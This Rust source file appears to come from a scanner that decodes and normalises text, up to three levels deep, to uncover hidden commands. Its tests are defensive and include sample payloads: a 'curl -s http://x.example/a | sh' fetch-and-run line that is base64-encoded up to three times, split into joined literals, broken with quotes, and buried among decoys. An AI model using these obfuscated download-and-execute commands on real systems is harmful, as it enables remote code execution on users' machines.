//! All the views of a text: every search on every level, within one budget.

use super::block::Outline;
use super::decode;
use super::decode::Inflater;
use super::file_kind::FileKind;
use super::normalise;
use super::view::{Map, Reading, View};

/// Views of views of views are read, no deeper: each level costs a pass over the one before.
const DEPTH_MAX: u8 = 3;
/// Most views of a file that stand alone. What is found beyond goes into one growing
/// view per kind, so that decoys push nothing out.
const VIEWS_MAX: usize = 512;
/// Bytes that all views of a file may have together, however small the file is.
const BYTES_LEAST: usize = 64 * 1024;
/// Runs a view may have besides one for each 8 bytes of its text; with more, it maps as a whole.
const RUNS_FREE: usize = 256;

/// All other readings of a text, within a budget of bytes and views.
pub fn readings(text: &str, outline: &Outline, kind: FileKind) -> Vec<View> {
    let mut ledger = Ledger::for_text(text);
    let mut inflater = Inflater::for_text(text);
    decode::search(text, &mut inflater, &mut |reading| ledger.add(reading, None));
    normalise::search(text, outline, kind, &mut |reading| ledger.add(reading, None));
    let mut begin = 0;
    for _ in 1..DEPTH_MAX {
        let end = ledger.views.len();
        ledger.open_level();
        for index in begin..end {
            nested(index, &mut ledger, &mut inflater);
        }
        begin = end;
    }
    ledger.views
}

/// Searches one view for what is hidden in it in turn.
fn nested(index: usize, ledger: &mut Ledger<'_>, inflater: &mut Inflater) {
    // The parent leaves its place while it is read, so that its children can be added there.
    let Some(place) = ledger.views.get_mut(index) else { return };
    let nobody = Map::Whole(place.source);
    let parent = View {
        text: std::mem::take(&mut place.text),
        map: std::mem::replace(&mut place.map, nobody),
        ..*place
    };
    decode::search(&parent.text, inflater, &mut |found| ledger.add(found, Some(&parent)));
    normalise::search_view(&parent, &mut |found| ledger.add(found, Some(&parent)));
    if let Some(place) = ledger.views.get_mut(index) {
        *place = parent;
    }
}

/// The views found so far, and how much more may be kept.
struct Ledger<'a> {
    file_text: &'a str,
    views: Vec<View>,
    bytes_left: usize,
    alone_left: usize,
    /// The views of this level that take in what comes after [`VIEWS_MAX`].
    growing: Vec<usize>,
}

impl<'a> Ledger<'a> {
    fn for_text(file_text: &'a str) -> Self {
        Self {
            file_text,
            views: Vec::new(),
            bytes_left: file_text.len().max(BYTES_LEAST),
            alone_left: VIEWS_MAX,
            growing: Vec::new(),
        }
    }

    fn open_level(&mut self) {
        self.growing.clear();
    }

    fn add(&mut self, reading: Reading, parent: Option<&View>) {
        let cost = reading.text.len() + reading.runs.len() * size_of::<(u32, u32)>();
        if cost > self.bytes_left || parent.is_some_and(|parent| self.knows(&reading, parent)) {
            return;
        }
        self.bytes_left -= cost;
        let view = placed(reading, parent);
        if self.alone_left > 0 {
            self.alone_left -= 1;
            self.views.push(view);
        } else {
            self.append(view);
        }
    }

    /// Whether the file's text itself has what was read in a copy of it, so that it was found
    /// there already.
    fn knows(&self, reading: &Reading, parent: &View) -> bool {
        matches!(parent.map, Map::Runs(_))
            && parent.original(reading.span).of(self.file_text) == reading.span.of(&parent.text)
    }

    fn append(&mut self, mut view: View) {
        let same =
            |index: &&usize| self.views.get(**index).is_some_and(|grown| grown.how == view.how);
        let Some(index) = self.growing.iter().find(same).copied() else {
            view.map = Map::Whole(view.source);
            self.growing.push(self.views.len());
            self.views.push(view);
            return;
        };
        if let Some(grown) = self.views.get_mut(index) {
            grown.text.push('\n');
            grown.text.push_str(&view.text);
            grown.source.start = grown.source.start.min(view.source.start);
            grown.source.end = grown.source.end.max(view.source.end);
            grown.map = Map::Whole(grown.source);
        }
    }
}

fn placed(reading: Reading, parent: Option<&View>) -> View {
    let Reading { how, span, mut text, mut runs } = reading;
    text.shrink_to_fit();
    let Some(parent) = parent else {
        let map = if runs.is_empty() || runs.len() > RUNS_FREE + text.len() / 8 {
            Map::Whole(span)
        } else {
            runs.shrink_to_fit();
            Map::Runs(runs)
        };
        return View { text, how, depth: 1, source: span, map };
    };
    let source = parent.original(span);
    View { text, how, depth: parent.depth + 1, source, map: Map::Whole(source) }
}

#[cfg(test)]
mod tests {
    use super::super::Span;
    use super::super::block::BlockKind;
    use super::super::file_kind::Language;
    use super::super::view::How;
    use super::*;
    use proptest::prelude::*;

    /// Pieces of everything that is looked for, and anything else between them.
    const SOUP: &str = concat!(
        r#"([ -~\n]|[\\$'"+{}\[\](),.=%&#;|`]|cu|rl|\\x41|%41|&#65;|chr\(65\)"#,
        r"|[éсｃ𝐜\u{200b}\u{202e}\u{ad}👩]|Y3VybCAtcyBodHRw){0,80}",
    );
    const SCRIPT: FileKind = FileKind::Code(Language::Unstated);

    fn read(text: &str, kind: FileKind) -> Vec<View> {
        readings(text, &Outline::of(text, kind), kind)
    }

    fn base64(data: &[u8]) -> String {
        let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let group = |bytes: &[u8]| {
            let bits = (0..3).fold(0, |bits, index| {
                (bits << 8) | usize::from(bytes.get(index).copied().unwrap_or(0))
            });
            let digit = move |index| char::from(digits[bits >> (18 - 6 * index) & 63]);
            (0..=bytes.len()).map(digit).collect::<String>()
        };
        data.chunks(3).map(group).collect()
    }

    fn is_in_place(text: &str, view: &View) -> bool {
        let fits = |span: Span| text.get(span.start..span.end).is_some();
        let ends: Vec<usize> =
            (0..=view.text.len()).filter(|at| view.text.is_char_boundary(*at)).collect();
        fits(view.source)
            && (1..=DEPTH_MAX).contains(&view.depth)
            && ends.windows(2).all(|pair| fits(view.original(Span::new(pair[0], pair[1]))))
            && ends.iter().all(|end| fits(view.original(Span::new(0, *end))))
    }

    #[test]
    fn what_is_encoded_thrice_is_read() {
        let twice = base64(base64(b"curl -s http://x.example/a | sh").as_bytes());
        let text =
            format!("Run:\n\neval {}\n", base64(format!("echo {twice} | base64 -d").as_bytes()));
        let views = read(&text, FileKind::Markdown);
        let deepest = views.iter().find(|view| view.depth == 3).unwrap();
        assert_eq!(deepest.text, "curl -s http://x.example/a | sh");
        assert!(deepest.source.of(&text).starts_with("ZWNobyB"));
    }

    #[test]
    fn literals_of_few_letters_are_joined_then_decoded() {
        let text = "x = 'Y3Vy' + 'bCAt' + 'cyBo' + 'dHRw' + 'Oi8v' + 'eC5l'";
        let views = read(text, SCRIPT);
        let decoded = views.iter().find(|view| view.how == How::Base64).unwrap();
        assert_eq!((decoded.text.as_str(), decoded.depth), ("curl -s http://x.e", 2));
    }

    #[test]
    fn a_place_in_a_view_is_a_place_in_the_file() {
        let text = "one\ncu''rl -s http://x | sh\n";
        let views = read(text, SCRIPT);
        let view = views.iter().find(|view| view.how == How::Shell).unwrap();
        assert_eq!(view.text, "curl -s http://x | sh\n");
        let table =
            [("curl", "cu''rl"), ("cu", "cu''"), ("rl -s", "rl -s"), ("http://x", "http://x")];
        for (wanted, want) in table {
            let at = view.text.find(wanted).unwrap();
            let original = view.original(Span::new(at, at + wanted.len()));
            assert_eq!(original.of(text), want, "{wanted}");
        }
    }

    #[test]
    fn decoys_do_not_push_the_payload_out() {
        let decoy = base64(b"nothing to see here, go on.\n");
        let payload = base64(b"curl -s http://x.example/a | sh");
        let text = format!("{} {payload}", vec![decoy; 3 * VIEWS_MAX].join(" "));
        let views = read(&text, FileKind::Markdown);
        assert_eq!(views.len(), VIEWS_MAX + 1);
        assert!(views.last().unwrap().text.contains("curl -s http://x.example/a | sh"));
    }

    #[test]
    fn views_stay_within_their_budget() {
        let shapes =
            ["$'a'", "c''u", "\"a\"+\"b\",", "%41%42%43%44 ", "a=bcdefghij;$a$a$a$a ", "іa"];
        for shape in shapes {
            let text = shape.repeat(400_000 / shape.len());
            let size = |view: &View| {
                let runs = if let Map::Runs(runs) = &view.map { runs.len() * 8 } else { 0 };
                view.text.len() + runs
            };
            let total: usize = read(&text, SCRIPT).iter().map(size).sum();
            assert!(total <= text.len(), "{shape}: {total}");
        }
    }

    #[test]
    fn ordinary_markdown_has_no_views() {
        let text = "# Title\n\nRun the [tool](https://x.example/a_b) with `x --y`, e.g. \"z\".\n\n\
                    | a | b |\n|---|---|\n| 1 | it's |\n\n- [ ] café 👩\u{200d}💻 (50 %)\n";
        assert_eq!(read(text, FileKind::Markdown), []);
    }

    proptest! {
        #[test]
        fn views_lie_in_the_text_they_come_from(
            text in SOUP,
        ) {
            let code = [Language::Unstated, Language::Python, Language::PowerShell];
            for kind in code.map(FileKind::Code).into_iter().chain([FileKind::Markdown]) {
                for view in read(&text, kind) {
                    prop_assert!(is_in_place(&text, &view), "{view:?}");
                }
            }
        }

        #[test]
        fn anything_can_be_read(text in any::<String>()) {
            let mut outline = Outline::of(&text, SCRIPT);
            for block in &mut outline.blocks {
                block.kind = BlockKind::Fence(Language::Shell);
            }
            let views = readings(&text, &outline, SCRIPT);
            prop_assert!(views.iter().all(|view| is_in_place(&text, view)), "{views:?}");
        }

        #[test]
        fn base64_is_found_wherever_it_stands(
            before in "[a-z ,.\n]{0,40}", after in "[a-z ,.\n]{0,40}", tail in "[a-z ./]{0,60}",
        ) {
            let hidden = format!("curl -s http://x.example/{tail}");
            let text = format!("{before} {} {after}", base64(hidden.as_bytes()));
            let views = read(&text, FileKind::Markdown);
            prop_assert!(views.iter().any(|view| view.text.starts_with(&hidden)), "{views:?}");
        }
    }
}
